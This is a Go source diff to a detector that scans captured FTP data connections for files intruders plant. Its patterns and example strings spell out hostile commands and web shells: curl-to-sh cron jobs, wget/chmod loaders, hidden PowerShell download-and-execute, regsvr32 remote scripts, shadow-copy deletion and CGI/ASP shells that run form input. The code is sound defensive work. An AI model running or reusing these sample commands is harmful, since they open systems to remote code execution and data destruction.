@@ -12,7 +12,8 @@ import (
 	"ftplab/lab/analysis/ftp"
 )
 
-// A plant is a file that intruders store, so that somebody runs it later. Each of its parts is in the file.
+// A plant is a file that intruders store, so that somebody runs it later. Its parts are in the file: the
+// first one in front of the others, or in the same packet.
 type plant struct {
 	what string
 	// kind is loot for what has no other use, doubtful for what administrators seldom write, and
@@ -48,9 +49,11 @@ func (p part) in(text []byte) bool {
 
 // Fragments of patterns, in lower case.
 const (
-	// fromVisitor is what a visitor of a web site sent, in ASP, JSP, Perl, Python, Node and Ruby.
-	fromVisitor = `(\brequest\s*(\.\s*(form|querystring|params|item|headers|cookies|args|values|query|body|get|post))?\s*[\[(]|\breq(uest)?\.(query|body|params|headers|cookies|args|form|binaryread|inputstream)\b|` +
-		`\bget(parameter|header|querystring|reader)\s*\(|\$env\{['"]?(query_string|http_\w+)|\bparam\s*\(|\bgetvalue\s*\(|\bparams\[|\$\{?query_string)`
+	// toPage is what a visitor sent to a page of ASP or JSP, and toScript to a program in Perl, Python, Node, Ruby
+	// or of a shell.
+	toPage = `(\brequest\s*(\.\s*(form|querystring|params|item|headers|cookies)\s*)?[\[(]|\brequest\.(binaryread|inputstream)\b|` +
+		`\bget(parameter|header|querystring|reader)\s*\(|\bparam\.)`
+	toScript = `(\breq(uest)?\.(query|body|params|headers|cookies|args|form|values)\b|\$env\{['"]?(query_string|http_\w+)|\bparam\s*\(\s*['"]|\bgetvalue\s*\(\s*['"]|\bparams\[|\bfieldstorage\s*\(\s*\)\s*\[|\bform\[['"]|\.parse\([^)\n]*\.url, *true\)\.query|\$\{?query_string)`
 	// runsShellText runs a text of a program as a program, in these languages.
 	runsShellText = `(getruntime\s*\(\s*\)\s*\.\s*exec|new\s+processbuilder|process\.start|\bos\.(system|popen)|\bpopen|\bsystem|\bexec(sync)?|\bexecute(global)?|\beval)`
 	// pipedToShell fetches a program, or decodes one, and hands it to a shell.
@@ -65,7 +68,7 @@ const (
 
 var (
 	serverPage = marked("<%", "<jsp:", "runat=")
-	aVisitor   = like(fromVisitor+`|\b\w+\.text\b`, "request", "get", "param", ".text")
+	aVisitor   = like(toPage+`|\b\w+\.text\b`, "request", "getpar", "gethead", "getquery", "getread", "param.", ".text")
 )
 
 const (
@@ -85,10 +88,10 @@ var plants = []plant{
 			like(`["'](/(usr/)?bin/)?(ba|da)?sh["' ]|["'](%comspec%|([a-z]:)?[\\\w]*cmd(\.exe)?)["' ]|\bpowershell(\.exe)?["' ]`, "sh", "cmd", "%comspec%")}},
 	{what: "a page that runs what it is sent", kind: loot, source: atWebShells,
 		example: "<% Dim x : ExecuteGlobal Request.Form(\"c\") %>",
-		parts:   []part{marked("<%", "<jsp:", "runat="), like(runsShellText+`\s*\(?[^;\n]{0,80}`+fromVisitor, "eval", "exec", "process")}},
+		parts:   []part{marked("<%", "<jsp:", "runat="), like(runsShellText+`\s*\(?[^;\n]{0,80}`+toPage, "eval", "exec", "process")}},
 	{what: "a script that runs what it is sent", kind: loot, source: atWebShells,
 		example: "#!/usr/bin/python\nimport cgi, os\nform = cgi.FieldStorage()\ncmd = form.getvalue('cmd')\nos.system(cmd)\n",
-		parts: []part{marked("#!/", "import ", "require(", "<%", "<jsp:"),
+		parts: []part{marked("#!/", "import ", "require(", "require '"), like(toScript, "req.", "request.", "$env{", "param", "getvalue", "fieldstorage", "form[", ".query", "query_string"),
 			{[]string{"system", "popen", "exec", "eval", "subprocess", "`"}, runsVisitors}}},
 	{what: "a page of ColdFusion that runs what it is sent", kind: loot, source: atWebShells,
 		example: `<cfexecute name="cmd.exe" arguments="/c #form.c#">`,
@@ -106,7 +109,7 @@ var plants = []plant{
 
 	{what: "a job that fetches a program and runs it", kind: loot, source: atJobs,
 		example: "* * * * * root curl -s http://203.0.113.9/x.sh|sh\n",
-		parts:   []part{like(schedule+`[^\n]*(`+pipedToShell+`|/dev/tcp/)`, "|", "; ", "&&", "/dev/tcp/")}},
+		parts:   []part{like(schedule+`[^\n]*(`+pipedToShell+`|/dev/tcp/)`, "curl", "wget", "lynx ", "base64 -", "/dev/tcp/")}},
 	{what: "a job that runs a program in a folder that everybody may write", kind: doubtful, source: atJobs,
 		example: "@reboot root /dev/shm/.x/kworker\n",
 		parts:   []part{like(schedule+`[ \t]*(root[ \t]+)?(/(usr/)?bin/(ba|da)?sh +)?`+scratch, "/tmp/", "/dev/shm/")}},
@@ -122,13 +125,16 @@ var plants = []plant{
 
 	{what: "a script that fetches a program for each kind of processor and runs it", kind: loot, fetched: true, source: atLoaders,
 		example: strings.Repeat("cd /tmp; wget http://203.0.113.9/mips; chmod 777 mips; ./mips; rm -rf mips\n", 3),
-		parts:   []part{like(`([^\n]*(wget|curl|tftp|ftpget)\b[^\n]{0,200}(;|&&) *chmod +(\+x|a\+x|[0-7]*7[0-7]*) +[^\n]{0,80}(;|&&) *(sh |\./)[^\n]*\n+){3}`, "chmod")}},
-	{what: "a script that hands a shell what it fetches from a host without a name", kind: doubtful, fetched: true, source: atLoaders,
+		parts:   []part{like(`([^\n]*(wget|curl|tftp|ftpget)\b[^\n]{0,200}(;|&&|\n)\s*chmod +(\+x|a\+x|[0-7]*7[0-7]*) +[^\n]{0,80}(;|&&|\n)\s*(sh |\./)[^\n]*\n+(rm [^\n]*\n+)?){3}`, "chmod")}},
+	{what: "a script that runs what it fetches from a host without a name", kind: doubtful, fetched: true, source: atLoaders,
 		example: "#!/bin/sh\ncurl -s http://203.0.113.9/x.sh | bash\n",
-		parts:   []part{{[]string{"curl", "wget"}, fetchesFromAddress}}},
+		parts:   []part{{[]string{"curl", "wget", ".download", "certutil", "bitsadmin"}, fetchesFromAddress}}},
 	{what: "a command of PowerShell that hides its window and its text", kind: loot, fetched: true, source: "MITRE ATT&CK, T1059.001 and T1564.003 (hidden window)",
 		example: "powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQA",
 		parts:   []part{like(`-e(c|n|nc|ncodedcommand)? +["']?[a-z0-9+/=]{40}`, "powershell"), like(`-w(in(dowstyle)?)? +["']?(h(idden)?|1)\b`, "powershell")}},
+	{what: "a command of PowerShell that hides its window and fetches a program", kind: loot, fetched: true, source: "MITRE ATT&CK, T1059.001 and T1564.003 (hidden window)",
+		example: `powershell -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://www.example/a')`,
+		parts:   []part{like(`\bpowershell\b[^\n]*-w(in(dowstyle)?)? +["']?(h(idden)?|1)\b[^\n]*(download(string|file|data)|\biwr\b|invoke-webrequest)`, "powershell")}},
 	{what: "a program of Windows that runs a script of another site", kind: loot, fetched: true, source: atProxies,
 		example: "regsvr32 /s /n /u /i:http://203.0.113.9/a.sct scrobj.dll",
 		parts:   []part{like(`\bregsvr32\b[^\n]*/i:["']?https?:|\brundll32\b[^\n]*javascript:|\bmshta(\.exe)?["']?[ ,"']+(https?|javascript|vbscript):`, "regsvr32", "rundll32", "mshta")}},
@@ -137,7 +143,22 @@ var plants = []plant{
 		parts:   []part{marked("xmlhttp", "winhttprequest"), marked("adodb.stream"), marked("savetofile"), marked(".run", ".exec", "shellexecute")}},
 	{what: "a task of Windows that runs a program in a folder that everybody may write", kind: doubtful, source: "MITRE ATT&CK, T1053.005 (scheduled task) and T1547.001 (run keys)",
 		example: `<Task><Exec><Command>C:\Users\Public\svc.exe</Command></Exec></Task>`,
-		parts:   []part{like(`<command>[^<]*\\(temp|tmp|public)\\|\[hkey_[^\]]*\\currentversion\\run(once)?\][^\[]*="[^\n]*\\(temp|tmp|public)\\`, "<command>", `\currentversion\run`)}},
+		parts:   []part{like(`<command>[^<]*\\(temp|tmp|public)\\|\[hkey_[^\]]*\\currentversion\\run(once)?\][^\[]*="[^\n]*\\(temp|tmp|public)\\|\bschtasks\b[^\n]*/create[^\n]*\\(temp|tmp|public)\\`, "<command>", `\currentversion\run`, "schtasks")}},
+	{what: "a script that removes what protects a system", kind: doubtful, fetched: true, source: "MITRE ATT&CK, T1490 (inhibit system recovery) and T1562.001 (disable tools)",
+		example: "vssadmin delete shadows /all /quiet\r\n",
+		parts:   []part{like(`\bvssadmin[^\n]* delete shadows[^\n]*/all|\bshadowcopy delete\b|\bwbadmin[^\n]* delete catalog|\brecoveryenabled +no\b|-disablerealtimemonitoring +(\$true|1)\b`, "shadow", "wbadmin", "recoveryenabled", "-disablerealtime")}},
+	{what: "a script that runs a hidden program in a folder that everybody may write", kind: doubtful, source: "MITRE ATT&CK, T1037.004 (RC scripts) and T1546.004 (shell configuration)",
+		example: "#!/bin/sh\n/tmp/.x/k &\nexit 0\n",
+		parts:   []part{like(`(?m)^[ \t]*((nohup|setsid|exec|sh|bash) +)*`+scratch+`\.\w`, "/tmp/.", "/dev/shm/.")}},
+	{what: "the test file of virus scanners", kind: doubtful, fetched: true, source: "EICAR, Anti Malware Testfile",
+		example: `X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTI` + `VIRUS-TEST-FILE!$H+H*`,
+		parts:   []part{marked("$eicar-standard-antivirus-test-file!")}},
+	{what: "a page that runs a program of its server", kind: suspect, source: atWebShells,
+		example: `<!--#exec cmd="ls" -->`,
+		parts:   []part{marked("<!--#exec cmd=")}},
+	{what: "settings that lead only visitors from a search engine to another site", kind: suspect, source: "MITRE ATT&CK, T1189 (drive-by compromise)",
+		example: "RewriteCond %{HTTP_REFERER} google\nRewriteRule .* http://www.example/ [R=302,L]\n",
+		parts:   []part{like(`rewritecond[^\n]*%\{http_referer\}[ \t]+[^!\n]*\b(google|bing|yahoo)`, "%{http_referer}"), like(`rewriterule[^\n]*https?://`, "rewriterule")}},
 
 	{what: "the settings of a miner, with the wallet of its owner", kind: loot, source: atMiners,
 		example: "./m -o stratum+tcp://pool.example:3333 -u 48" + strings.Repeat("Ab9", 31),
@@ -158,11 +179,12 @@ var toPool = []byte("stratum+tcp://")
 
 var (
 	// keptText matches a variable that a visitor's text is assigned to, and runText a variable that is run.
-	keptText = pattern(`([$@]?\b\w+)\s*=\s*[^;\n=]{0,40}` + fromVisitor)
+	keptText = pattern(`([$@]?\b\w+)\s*=\s*[^;\n=]{0,40}` + toScript)
 	runText  = pattern(runsShellText + `\s*\(?\s*(?:["'][^"'\n]{0,40}["']\s*[+.&]\s*)?([$@]?\w+)|` + "`" + `[^` + "`" + `\n]{0,60}(?:#\{)?([$@]\w+)[^` + "`" + `\n]{0,60}` + "`")
-	directly = pattern(`(\bos\.(system|popen)|(child_process['"]\)|\b(cp|child|child_?process))\.exec(sync)?|[\s=;(]exec(sync)?|\bsystem)\s*\([^;\n]{0,80}` + fromVisitor + `|(^|[\s;])(eval|exec|system)\s+["']?[^;\n]{0,40}\$(\{?query_string|env\{)|` + "`[^`\n]{0,80}\\$(\\{?query_string|env\\{)" + `|subprocess\.\w+\([^\n]{0,80}` + fromVisitor + `[^\n]{0,80}shell\s*=\s*true`)
+	directly = pattern(`(\bos\.(system|popen)|(child_process['"]\)|\b(cp|child|child_?process))\.exec(sync)?|[\s=;(]exec(sync)?|\bsystem)\s*\([^;\n]{0,80}` + toScript + `|(^|[\s;])(eval|exec|system)\s+["']?[^;\n]{0,40}\$(\{?query_string|env\{)|` + "`[^`\n]{0,80}\\$(\\{?query_string|env\\{)|`[^`\n]{0,80}#\\{params\\[" + `|subprocess\.\w+\([^\n]{0,80}` + toScript + `[^\n]{0,80}shell\s*=\s*true`)
 	// fromAddress matches a program that is fetched from an address, and handed to a shell.
-	fromAddress = pattern(`\b(?:curl|wget)\b[^\n|;]*\b(?:https?|ftp)://((?:\d{1,3}\.){3}\d{1,3})\b[^\n|;]*\| *(?:sudo +)?(?:/(?:usr/)?bin/)?(?:ba|da|z)?sh\b`)
+	fromAddress = pattern(`\b(?:curl|wget)\b[^\n|;]*\b(?:https?|ftp)://((?:\d{1,3}\.){3}\d{1,3})\b[^\n|;]*\| *(?:sudo +)?(?:/(?:usr/)?bin/)?(?:ba|da|z)?sh\b|` +
+		`\b(?:download(?:string|file|data)\s*\(|certutil\b[^\n]*-urlcache|bitsadmin\b[^\n]*/transfer)[^\n]{0,60}\bhttps?://((?:\d{1,3}\.){3}\d{1,3})\b`)
 )
 
 // runsVisitors reports whether a script runs what a visitor sends, as it is or by way of a variable.
@@ -178,18 +200,18 @@ func runsVisitors(text []byte) bool {
 	})
 }
 
-// fetchesFromAddress reports whether a script hands a shell what it fetches from a public address. Installers
+// fetchesFromAddress reports whether a script runs what it fetches from a public address. Installers
 // in a network of one's own are fetched from private ones.
 func fetchesFromAddress(text []byte) bool {
 	return slices.ContainsFunc(fromAddress().FindAllSubmatch(text, -1), func(m [][]byte) bool {
-		a, err := netip.ParseAddr(string(m[1]))
+		a, err := netip.ParseAddr(string(m[1]) + string(m[2]))
 		return err == nil && !a.IsPrivate() && !a.IsLoopback()
 	})
 }
 
 // planted are the files that intruders plant, by data connection.
 type planted struct {
-	texts map[int]map[int]int // by connection and plant: the parts that were found, as bits
+	texts map[int][]int // the parts of each plant that were found, as bits, by connection
 	found map[int]content
 	text  []byte // a buffer
 }
@@ -202,7 +224,7 @@ func (all *planted) packet(p *capture.Packet) {
 		return
 	}
 	if p.Segment.DataSeq() == 1 && isScript(data) && len(all.texts) < maxContents {
-		all.texts[id] = map[int]int{}
+		all.texts[id] = make([]int, len(plants))
 	}
 	parts := all.texts[id]
 	if parts == nil {
@@ -217,7 +239,7 @@ func (all *planted) packet(p *capture.Packet) {
 			continue
 		}
 		for j, part := range plant.parts {
-			if parts[i]&(1<<j) == 0 && part.in(all.text) {
+			if (j == 0 || parts[i] != 0) && parts[i]&(1<<j) == 0 && part.in(all.text) {
 				parts[i] |= 1 << j
 			}
 		}
